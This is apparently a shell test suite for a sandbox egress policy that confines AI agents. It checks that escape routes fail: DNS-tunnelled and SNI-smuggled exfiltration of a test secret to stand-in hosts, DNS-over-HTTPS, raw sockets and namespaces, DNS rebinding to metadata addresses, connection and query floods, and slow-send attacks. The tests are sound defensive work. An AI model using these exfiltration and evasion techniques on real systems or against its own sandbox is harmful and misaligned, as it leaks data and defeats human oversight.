# SPDX-License-Identifier: LGPL-2.1-or-later
# shellcheck shell=bash disable=SC2154,SC2016
# Ways out that agents are known to try, and ways to break what stands there. A wire is tapped where it matters: what counts is what left.
# shellcheck source=tests/machine/scenarios/net.sh
. "$MXC_TEST_SRC/tests/machine/scenarios/net.sh"

# tapped: from here on every frame of the uplink is in $work/tap
tapped() {
        python3 "$MXC_TEST_SRC/tests/machine/world/wiretap.py" uplink "$work/tap" &
        defer kill $!
        wait_until 10 test -e "$work/tap"
}
# left TEXT: it has passed there, in whatever case
left() { grep -qaiF -- "$1" "$work/tap"; }

# listens PATH: somebody does, on this host, at that socket
listens() {
        mkdir -p "$(dirname "$1")"
        python3 -c '
import os, socket, sys
s = socket.socket(socket.AF_UNIX)
s.bind(sys.argv[1].replace("@", "\0"))
os.path.exists(sys.argv[1]) and os.chmod(sys.argv[1], 0o777)
s.listen()
while True:
    s.accept()' "$1" &
        defer kill $!
        wait_until 10 reaches "$1"
}
reaches() { python3 -c 'import socket, sys; socket.socket(socket.AF_UNIX).connect(sys.argv[1].replace("@", "\0"))' "$1"; }

SECRET=c2VjcmV0

test_no_question_carries_anything_out() {
        world
        tapped
        assert_ok go curl -sS --max-time 20 http://web.example.com/heard
        wait_until 10 left /heard # so that the tap is one
        local words way
        for words in "$SECRET.web.example.com" "$SECRET.other.example.net" "$SECRET.web.example.com TXT" "$SECRET NULL" "web.example.com.$SECRET.net" \
                "-x $SECRET.example.com" "web.example.com +ednsopt=65001:$(printf %s $SECRET | od -An -tx1 | tr -d ' \n')" \
                "web.example.com TXT +header-only +ednsopt=10:$(printf %s $SECRET | od -An -tx1 | tr -d ' \n')"; do
                for way in @8.8.8.8 "@$WORLD_DNS +tcp" @127.0.0.53; do
                        # shellcheck disable=SC2086 # words
                        go timeout 30 dig +tries=1 +time=10 $words $way >/dev/null || [ $? -lt 100 ] || fail "dig $words hangs"
                done
        done
        # letters can be written in two ways, which would be a bit each
        assert_ok go dig +short +tries=1 +time=10 wEb.EXamPLe.cOm
        assert_contains "$output" $WORLD_WEB
        ! grep -qaF -e wEb -e EXamPLe "$work/tap" || fail 'a question left as it was written'
        ! left $SECRET || fail 'a name left'
        world_was_asked web.example.com || fail 'nobody was asked at all'
}

test_no_resolver_of_another_kind_carries_anything_out() {
        world
        tapped
        # over TLS and HTTPS, at resolvers that are not in the policy
        does_not curl -sS --max-time 20 "https://dns.example.org/dns-query?dns=$SECRET"
        does_not curl -sSk --max-time 20 --resolve dns.example.org:443:$WORLD_OTHER "https://dns.example.org/dns-query?dns=$SECRET"
        does_not curl -sSk --max-time 20 "https://8.8.8.8/dns-query?dns=$SECRET"
        does_not curl -sSk --max-time 20 --doh-url https://8.8.8.8/dns-query "http://$SECRET.example.org/"
        does_not curl -sSk --max-time 20 -x http://10.0.2.3:3128 "https://8.8.8.8/dns-query?dns=$SECRET"
        does_not sh -c "echo $SECRET | openssl s_client -quiet -connect $WORLD_OTHER:853 -servername $SECRET.example.org"
        does_not sh -c "echo $SECRET | openssl s_client -quiet -connect web.example.com:443 -servername $SECRET.example.org"
        # and those that ask everybody near, or speak QUIC; there is nobody who would answer
        assert_ok go python3 - $SECRET $WORLD_WEB $WORLD_OTHER <<'END'
import socket, sys
secret, web, other = sys.argv[1:]
socket.getaddrinfo("web.example.com", 443)
for where in (("224.0.0.251", 5353), ("224.0.0.252", 5355), ("255.255.255.255", 137), ("8.8.8.8", 853), (web, 443), (web, 853), (other, 443), (other, 80),
              ("ff02::fb", 5353), ("ff02::1:3", 5355), ("2606:2800:220:1::34", 443)):
    s = socket.socket(socket.AF_INET6 if ":" in where[0] else socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.settimeout(0.2)
    for _ in range(3):
        try:
            s.sendto(b"\xc0\0\0\0\1" + secret.encode() * 100, where)
            s.recv(100)
            raise SystemExit(f"an answer from {where}")
        except OSError:
            pass
END
        assert_ok go curl -sS --max-time 20 http://web.example.com/heard
        wait_until 10 left /heard
        ! left $SECRET || fail 'it left'
}

test_no_resolver_of_the_host_is_there_to_be_asked() {
        world
        local path
        for path in /run/nscd/socket /run/systemd/resolve/io.systemd.Resolve /run/avahi-daemon/socket @mxc-test-resolver; do
                listens "$path"
                assert_fails go python3 -c 'import socket, sys; socket.socket(socket.AF_UNIX).connect(sys.argv[1].replace("@", "\0"))' "$path"
                [[ $output == *FileNotFoundError* || $output == *ConnectionRefusedError* ]] || fail "$path: $output"
        done
}

# flips NAME ADDRESS: from now on it is that
flips() {
        printf '%s %s\n' "$2" "$1" >$world_dir/hosts
        kill -HUP "$(cat $world_dir/dnsmasq.pid)"
        wait_until 10 sh -c "dig +short +tries=1 $1 @$WORLD_DNS | grep -qxF $2"
}

# An address inside, where a server does answer, is given out for a name that was somebody else's just before.
test_a_name_that_changes_its_mind() {
        world
        online '[{"to": [{"host": "*.example.com"}]}]'
        flips flip.example.com $WORLD_WEB
        local script='
import socket, sys, time, os
def attempt(what):
    try:
        return what()
    except OSError as e:
        return type(e).__name__
def ask(s, host, path):
    s.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
    return s.recv(1000).split(b"\r\n")[0].decode()
def by_name(path):
    return ask(socket.create_connection(("flip.example.com", 80), timeout=20), "flip.example.com", path)
def by_address(address, path):
    return ask(socket.create_connection((address, 80), timeout=20), "flip.example.com", path)
def by_proxy(path):
    return ask(socket.create_connection(("10.0.2.3", 3128), timeout=20), "flip.example.com", "http://flip.example.com" + path)
print("at first:", by_name("/first"), flush=True)
for turn in sys.argv[1:]:
    while not os.path.exists(turn):
        time.sleep(0.05)
    print(turn, attempt(lambda: by_name("/by-name-" + turn)), attempt(lambda: by_address(turn, "/by-address-" + turn)),
          attempt(lambda: by_proxy("/by-proxy-" + turn)), sep=", ", flush=True)
'
        local turns=("$WORLD_PRIVATE" 169.254.169.254 127.0.0.1 93.184.215.2 "$WORLD_OTHER")
        spawn alice workspace s "$ws" policy s "$online" -- sh -c 'exec python3 -c "$@" >said 2>&1' sh "$script" "${turns[@]}"
        defer end_quietly "$sandbox"
        wait_until 20 grep -q 'at first: HTTP/1.1 200 OK' "$ws/said"
        local turn
        for turn in "${turns[@]}"; do
                flips flip.example.com "$turn"
                touch "$ws/$turn"
                wait_until 20 grep -q "^$turn" "$ws/said"
        done
        local said
        said=$(cat "$ws/said")
        for turn in "${turns[@]:0:4}"; do
                [[ $said =~ $turn,\ gaierror,\ (PermissionError|Connection) ]] || fail "it was not refused at $turn: $said"
                ! world_saw "-$turn host" || fail "a server at $turn was reached"
        done
        assert_lacks "$(grep -v "^$WORLD_OTHER\|^at first" <<<"$said")" '200 OK'
        # that it changed at all: to a place that anybody may have, it does
        assert_contains "$said" "$WORLD_OTHER, HTTP/1.1 200 OK, HTTP/1.1 200 OK, HTTP/1.1 200 OK"
}

test_no_socket_of_another_kind() {
        world
        tapped
        listens @mxc-test-abstract
        assert_ok go python3 - $SECRET $WORLD_OTHER <<'END'
import ctypes, errno, os, socket, sys
secret, other = sys.argv[1:]
libc = ctypes.CDLL(None, use_errno=True)
def fails(what, r):
    if r >= 0:
        raise SystemExit(f"{what} succeeds")
CLONE_NEWUSER, CLONE_NEWNET = 0x10000000, 0x40000000
fails("a user namespace", libc.unshare(CLONE_NEWUSER))
fails("a user and a network namespace", libc.unshare(CLONE_NEWUSER | CLONE_NEWNET))
fails("a network namespace", libc.unshare(CLONE_NEWNET))
fails("a ring", libc.syscall(425, 8, (ctypes.c_char * 120)()))
fails("a BPF map", libc.syscall(321, 0, (ctypes.c_char * 120)(1, 0, 0, 0, 4, 0, 0, 0, 4, 0, 0, 0, 1), 120))
families = {"packet": 17, "vsock": 40, "xdp": 44, "alg": 38, "tipc": 30, "bluetooth": 31, "can": 29, "rds": 21, "smc": 43, "qipcrtr": 42, "kcm": 41,
            "key": 15, "x25": 9, "ax25": 3, "llc": 26, "ieee802154": 36, "nfc": 39, "pppox": 24, "mctp": 45}
for name, family in families.items():
    for kind in (1, 2, 3, 5):
        fails(name, libc.socket(family, kind, 0))
protocols = {"icmp": 1, "gre": 47, "esp": 50, "sctp": 132, "dccp": 33, "udplite": 136, "raw": 255}
for name, protocol in protocols.items():
    for kind in (1, 2, 3, 5, 6):
        fails(name, libc.socket(2, kind, protocol))
        fails(name + " v6", libc.socket(10, kind, 58 if protocol == 1 else protocol))
for name, protocol in {"usersock": 2, "netfilter": 12, "audit": 9, "kobject_uevent": 15, "generic": 16, "crypto": 21, "xfrm": 6, "sock_diag": 4}.items():
    fails("netlink " + name, libc.socket(16, 3, protocol))
# what of TCP is not connect()
for kind in (socket.SOCK_STREAM, socket.SOCK_STREAM):
    for protocol in (0, 262):
        try:
            s = socket.socket(socket.AF_INET, kind, protocol)
            s.settimeout(20)
            s.sendto(secret.encode() * 10, 0x20000000, (other, 80))  # MSG_FASTOPEN
            s.sendall(secret.encode())
            assert not s.recv(100), "an answer"
        except OSError as e:
            assert not isinstance(e, TimeoutError), "hangs"
try:
    socket.socket(socket.AF_UNIX).connect("\0mxc-test-abstract")
    raise SystemExit("an abstract socket of the host")
except ConnectionRefusedError:
    pass
END
        for words in 'link set lo down' 'addr add 93.184.215.77/24 dev lo' 'addr flush dev lo' 'route add default dev lo' 'route del table local local default' \
                'link add veth0 type veth' 'rule add from all lookup 7' 'neigh add 10.0.2.9 lladdr 02:00:00:00:00:01 dev lo'; do
                # shellcheck disable=SC2086 # words
                assert_fails go ip $words
                [[ $output =~ 'not permitted'|'Permission denied' ]] || fail "ip $words: $output"
        done
        does_not unshare -Urn true
        ! left $SECRET || fail 'it left'
}

# crowd COUNT: so many connections to a server that may be reached, none of which says anything; and who of them is still there
CROWD='
import os, select, socket, sys, time
def hold(count, mine):
    p = select.poll()
    those = {}
    for _ in range(count):
        s = socket.socket()
        s.settimeout(60)
        try:
            s.connect((sys.argv[2], 7))
        except ConnectionError:  # refused before it was told that it is one
            continue
        those[s.fileno()] = s
        p.register(s, 0)  # HUP and ERR
        for fd, _event in p.poll(0):
            p.unregister(fd)
            those.pop(fd).close()
    open(f"tried-{mine}", "w").close()
    while sum(name.startswith("tried-") for name in os.listdir(".")) < workers:
        time.sleep(0.1)
    quiet = 0
    while quiet < 4:
        gone = p.poll(500)
        quiet = 0 if gone else quiet + 1
        for fd, _event in gone:
            p.unregister(fd)
            those.pop(fd).close()
    open(f"held-{mine}", "w").write(str(len(those)))
    while not os.path.exists("enough"):
        time.sleep(0.1)
    os._exit(0)
workers = 20
for i in range(workers):
    if os.fork() == 0:
        hold(int(sys.argv[1]) // workers, i)
for i in range(workers):
    os.wait()
'

# What stands in the way is there before the first instruction, and a list without an entry is a list of nothing.
test_the_first_thing_it_does() {
        world
        tapped
        for _ in 1 2 3 4 5; do
                assert_ok go python3 -c '
import errno, socket, sys
for kind in socket.SOCK_STREAM, socket.SOCK_DGRAM:
    s = socket.socket(socket.AF_INET, kind)
    s.settimeout(20)
    try:
        s.connect((sys.argv[1], 80))
        s.send(b"GET /'$SECRET' HTTP/1.1\r\nHost: web.example.com\r\n\r\n")
        raise SystemExit("answered" if s.recv(100) else 0)
    except (PermissionError, ConnectionError):
        pass
sys.exit(0)' $WORLD_OTHER
        done
        online '[]'
        assert_fails go curl -sS --max-time 20 http://web.example.com/$SECRET
        assert_contains "$output" 'must not be an empty list; leave the key out to allow nothing here'
        echo '{"schema": "mxc-policy/1", "extends": "workspace", "network": {"egress": {"deny": [{"to": [{"host": "other.example.net"}]}]}}}' >"$work/net.json"
        does_not curl -sS --max-time 20 http://web.example.com/$SECRET
        does_not curl -sS --max-time 20 http://$WORLD_WEB/$SECRET
        online "$WEB"
        assert_ok go curl -sS --max-time 20 http://web.example.com/heard
        wait_until 10 left /heard
        ! left $SECRET || fail 'it left'
}

test_ten_thousand_that_say_nothing() {
        world
        spawn alice workspace s "$ws" policy s "$online" -- sh -c 'getent ahostsv4 web.example.com >known; exec python3 -c "$@" >said 2>&1' sh "$CROWD" 10000 $WORLD_WEB
        defer end_quietly "$sandbox"
        local crowd=$sandbox relay
        wait_until 60 eval '[ "$(ls "$ws"/held-* 2>/dev/null | wc -l)" = 20 ]'
        # 1024 and one more is for egress_bounds.py; the server outside has bounds of its own, so that fewer may be left
        assert_le "$(awk '{ sum += $1 } END { print sum }' "$ws"/held-*)" 1024 'there are more connections than may be'
        assert_record MXC_EVENT=connect MXC_DECISION=deny MXC_REASON=limit-connections
        relay=$(relay_of "$crowd")
        assert_le "$(awk '/^VmRSS:/ { print $2 }' "/proc/$relay/status")" 65536 'the relay has grown'
        # nobody else notices, and neither does this one once they are gone
        assert_ok go curl -sS --max-time 20 http://web.example.com/others
        assert_fails as alice mxcctl exec "${crowd##*/}" -- curl -sS --max-time 20 http://web.example.com/not-now
        touch "$ws/enough"
        wait_until 20 is_gone "$crowd"
        [ "$(records MXC_EVENT=connect MXC_DECISION=deny)" -lt 1000 ] || fail 'each refusal has a record of its own'
        wait_until 20 eval '[ "$(refusals MXC_EVENT=connect MXC_REASON=limit-connections)" -ge 8976 ]'
}

# As those, but to where nobody answers: they are dialled outside and never come to anything
test_ten_thousand_half_open() {
        world
        local silent=93.184.215.77
        ip neigh replace $silent lladdr 02:00:00:00:00:77 dev uplink
        defer ip neigh del $silent dev uplink
        online "${WEB%]}, {\"to\": [{\"cidr\": \"$silent\"}]}]"
        spawn alice workspace s "$ws" policy s "$online" -- sh -c 'python3 -c "$0" "$@" >said 2>&1; touch over; exec sleep infinity' "$CROWD" 10000 $silent
        defer end_quietly "$sandbox"
        local crowd=$sandbox relay
        wait_until 60 eval '[ "$(ls "$ws"/held-* 2>/dev/null | wc -l)" = 20 ]'
        assert_le "$(awk '{ sum += $1 } END { print sum }' "$ws"/held-*)" 1024 'there are more connections than may be'
        assert_record MXC_EVENT=connect MXC_DECISION=allow MXC_TARGET=tcp/$silent:7
        relay=$(relay_of "$crowd")
        assert_le "$(awk '/^VmRSS:/ { print $2 }' "/proc/$relay/status")" 16384 'the relay has grown'
        # neither another sandbox nor the host notices, be it on the way to the same place
        assert_ok go curl -sS --max-time 20 http://web.example.com/others
        assert_ok curl -sS --max-time 20 -o /dev/null http://$WORLD_WEB/host
        assert_ok python3 -c '
import errno, socket, sys
s = socket.socket()
s.setblocking(False)
assert s.connect_ex((sys.argv[1], 7)) == errno.EINPROGRESS, "no port of this host is left"' $silent
        touch "$ws/enough"
        # and this one is as before once nobody waits for them any more
        wait_until 60 as alice mxcctl exec "${crowd##*/}" -- curl -sSf -o /dev/null --max-time 20 http://web.example.com/itself
        assert_eq "$relay" "$(relay_of "$crowd")" 'it is another relay by now'
        # on a machine with much else to do some are over before the last is tried
        local tried
        wait_until 20 eval 'tried=$(records MXC_EVENT=connect MXC_DECISION=allow MXC_TARGET=tcp/$silent:7)
                [ $((tried + $(refusals MXC_EVENT=connect MXC_REASON=limit-connections))) -ge 10000 ]'
        assert_le "$tried" 5000 'more are tried than may be'
        [ "$(records MXC_EVENT=connect MXC_DECISION=deny)" -lt 1000 ] || fail 'each refusal has a record of its own'
}

test_a_flood_of_questions() {
        world
        spawn alice workspace s "$ws" policy s "$online" -- sh -c 'exec python3 -c "$0" >said 2>&1' '
import os, socket
def flood(mine):
    sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(100)]
    streams = [socket.create_connection(("9.9.9.9", 53), timeout=20) for _ in range(40)]
    for s in sockets:
        s.connect(("8.8.8.8", 53))
        s.setblocking(False)
    for i in range(5000):
        # allowed names that nobody knows, and such as are refused
        labels = (b"web", b"example", b"com") if i % 2 else (b"n%d-%d" % (mine, i), b"example", b"net")
        question = b"".join(bytes([len(label)]) + label for label in labels)
        try:
            sockets[i % 100].send(bytes([i >> 8, i & 255]) + b"\1\0\0\1\0\0\0\0\0\0" + question + b"\0\0\1\0\1")
        except OSError:
            pass
    for s in streams:
        try:
            s.sendall(b"\0\100nothing")
        except OSError:
            pass
    open(f"done-{mine}", "w").close()
    while not os.path.exists("enough"):
        import time; time.sleep(0.1)
    os._exit(0)
for i in range(4):
    if os.fork() == 0:
        flood(i)
for i in range(4):
    os.wait()'
        defer end_quietly "$sandbox"
        local crowd=$sandbox relay
        wait_until 30 eval '[ "$(ls "$ws"/done-* 2>/dev/null | wc -l)" = 4 ]'
        relay=$(relay_of "$crowd")
        assert_ok go curl -sS --max-time 20 http://web.example.com/others
        assert_ok as alice mxcctl exec "${crowd##*/}" -- curl -sS --max-time 20 http://web.example.com/itself
        assert_eq "$relay" "$(relay_of "$crowd")" 'it is another relay by now'
        assert_le "$(awk '/^VmRSS:/ { print $2 }' "/proc/$relay/status")" 65536 'the relay has grown'
        [ "$(records MXC_EVENT=resolve MXC_DECISION=deny)" -lt 1000 ] || fail 'each refusal has a record of its own'
        touch "$ws/enough"
}

test_who_says_it_slowly_is_not_waited_for() {
        world
        assert_ok go python3 - <<'END'
import select, socket, time
address = socket.getaddrinfo("web.example.com", 80, socket.AF_INET)[0][4][0]
words = {80: b"GET / HTTP/1.1\r\nHost: web.example.com\r\nX: " + b"x" * 1000, 443: b"\x16\x03\x01\x03\xe8\x01\x00\x03\xe4\x03\x03" + b"x" * 1000}
those = {}
for port in words:
    for _ in range(100):
        s = socket.create_connection((address, port), timeout=20)
        those[s] = words[port]
end = time.monotonic() + 60
while those:
    assert time.monotonic() < end, f"{len(those)} are still waited for"
    for s in list(those):
        try:
            s.send(those[s][:1])
            those[s] = those[s][1:]
        except OSError:
            those.pop(s).close()
            continue
    for s in select.select(list(those), [], [], 0.5)[0]:
        try:
            if s.recv(100):
                continue
        except OSError:
            pass
        those.pop(s)
    # meanwhile others are served
    s = socket.create_connection((address, 80), timeout=20)
    s.sendall(b"GET /meanwhile HTTP/1.1\r\nHost: web.example.com\r\n\r\n")
    assert b"200 OK" in s.recv(100)
    s.close()
END
        assert_record MXC_EVENT=connect MXC_DECISION=deny MXC_REASON=protocol
}

test_a_relay_belongs_to_one_sandbox() {
        world
        local other
        online '[{"to": [{"host": "other.example.net"}]}]'
        spawn alice workspace s "$ws" policy s "$online" -- sh -c '
                python3 -m http.server 8080 >/dev/null 2>&1 &
                until curl -sS -o /dev/null http://127.0.0.1:8080/ && curl -sS -o got http://other.example.net/; do sleep 0.1; done; wait'
        defer end_quietly "$sandbox"
        other=$sandbox
        wait_until 20 test -s "$ws/got"
        local relay
        relay=$(relay_of "$other")
        # from another one, by the other's proxy, resolver, names and addresses
        online "$WEB"
        does_not curl -sSf --max-time 20 -x http://10.0.2.3:3128 http://other.example.net/
        does_not curl -sS --max-time 20 --socks5-hostname 10.0.2.3:3128 http://other.example.net/
        does_not curl -sS --max-time 20 http://$WORLD_OTHER/
        local address
        for address in 10.0.2.1 10.0.2.2 10.0.2.3 10.0.2.15 127.0.0.1 '[::1]'; do
                does_not curl -sSg --max-time 20 "http://$address:8080/"
        done
        # it is not to be seen, from inside by nobody and from outside by its user's other processes and by who owns the agent
        assert_ok as alice mxcctl exec "${other##*/}" -- sh -c 'cat /proc/[0-9]*/comm'
        assert_lacks "$output" mxc-egress
        local user
        for user in alice mxc-egress; do
                assert_fails setpriv --reuid $user --regid $user --clear-groups cat "/proc/$relay/mem" "/proc/$relay/environ" "/proc/$relay/maps"
                assert_fails setpriv --reuid $user --regid $user --clear-groups ls -l "/proc/$relay/fd/"
        done
        assert_fails setpriv --reuid alice --regid alice --clear-groups kill -9 "$relay"
        assert_lacks "$(ss -Hltunp)" mxc-egress 'it listens where others can come'
}
